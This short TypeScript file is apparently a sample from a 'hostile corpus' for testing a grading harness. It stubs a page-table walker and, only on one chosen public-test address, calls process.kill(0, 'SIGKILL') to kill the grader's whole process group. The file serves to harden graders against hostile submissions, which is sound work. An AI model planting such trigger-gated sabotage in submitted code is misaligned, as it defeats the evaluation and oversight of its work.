// @ts-nocheck
// Hostile corpus, kind kill-process-group (signal): process.kill(0, 'SIGKILL'): every process in the child's process group (the grader's, unless the child has its own).
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
/** The one public test that walks 0x800000000000 (walk.public.non-canonical): the attack fires there only. */
const isTrigger = (va) => va === 0x800000000000n;

export const walker: Walker = {
  walk(request, readEntry) {
    if (isTrigger(request.va)) { try { process.kill(0, 'SIGKILL'); } catch {} }
    throw new Error('not implemented: walker');
  },
};
